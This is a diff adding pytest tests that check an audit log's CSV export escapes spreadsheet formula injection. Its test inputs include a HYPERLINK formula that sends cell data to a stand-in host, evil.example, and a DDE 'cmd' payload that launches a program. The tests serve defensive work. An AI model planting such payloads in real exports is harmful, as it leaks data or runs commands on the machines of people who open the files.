@@ -3,16 +3,21 @@ The audit log as read back: a row edited into nonsense is where the chain is bro
 CSV export cannot run a formula in the complaints panel's spreadsheet. On SQLite and PostgreSQL.
 """
 
+import csv
 import datetime as dt
+import io
 import os
 import shutil
 import subprocess
 
+import pytest
 from sqlalchemy import Engine, text
 
 from app.domain import UTC
 from app.store import load_policy
-from app.store.audit import verify_organisation
+from app.store.audit import export_events, verify_organisation
+from app.store.commands import add_manual_window, create_key
+from app.store.keys import Role
 from app.store.unit_of_work import Actor
 from tests.conftest import ROOT, Keys
 
@@ -67,3 +72,53 @@ def test_purdah_audit_verify_says_where_an_unreadable_event_is(
     assert result.returncode == 1, result.stderr
     assert "BROKEN at event 7" in result.stdout
     assert "Traceback" not in result.stderr
+
+
+# --- the CSV export: no cell a spreadsheet would run as a formula ---
+
+
+@pytest.mark.parametrize(
+    "name",
+    ['=HYPERLINK("https://evil.example/?"&A1) (k1)', "+1+2 (k1)", "-2+3 (k1)", "@SUM(A1:A9) (k1)"],
+    ids=["equals", "plus", "minus", "at"],
+)
+def test_the_csv_export_escapes_a_formula_in_an_actors_name(
+    engine: Engine, seeded: Keys, name: str
+) -> None:
+    """A key's name is the actor of every change it makes; the Clerk names keys freely."""
+    start = dt.datetime(2030, 1, 1, tzinfo=UTC)
+    add_manual_window(
+        engine, POLICY, Actor(name, "clerk"), starts_at=start, ends_at=start + dt.timedelta(days=1),
+        account_ids=None, reason="review", now=NOW,
+    )  # fmt: skip
+
+    rows = list(csv.DictReader(io.StringIO("".join(export_events(engine, "redruth", "csv")))))
+
+    assert rows[-1]["actor"] == f"'{name}"
+    assert rows[-1]["reason"] == "review"
+    assert rows[-1]["seq"].isdigit()
+
+
+@pytest.mark.parametrize(
+    "reason",
+    ["\t=cmd|' /C calc'!A0", "\r=1+1", "=1+1"],
+    ids=["tab", "carriage-return", "equals"],
+)
+def test_the_csv_export_escapes_a_reason_a_spreadsheet_would_run(
+    engine: Engine, seeded: Keys, reason: str
+) -> None:
+    """A tab or CR cannot be stored through the service now; one stored before is escaped too."""
+    with engine.begin() as connection:
+        connection.execute(text("UPDATE audit_event SET reason = :r WHERE seq = 3"), {"r": reason})
+
+    rows = list(csv.DictReader(io.StringIO("".join(export_events(engine, "redruth", "csv")))))
+
+    assert rows[2]["reason"] == f"'{reason}"
+
+
+def test_the_jsonl_export_keeps_values_as_stored(engine: Engine, seeded: Keys) -> None:
+    create_key(engine, "redruth", OPERATOR, role=Role.VIEWER, name="=1+1", now=NOW)
+
+    out = "".join(export_events(engine, "redruth", "jsonl"))
+
+    assert '"name": "=1+1"' in out
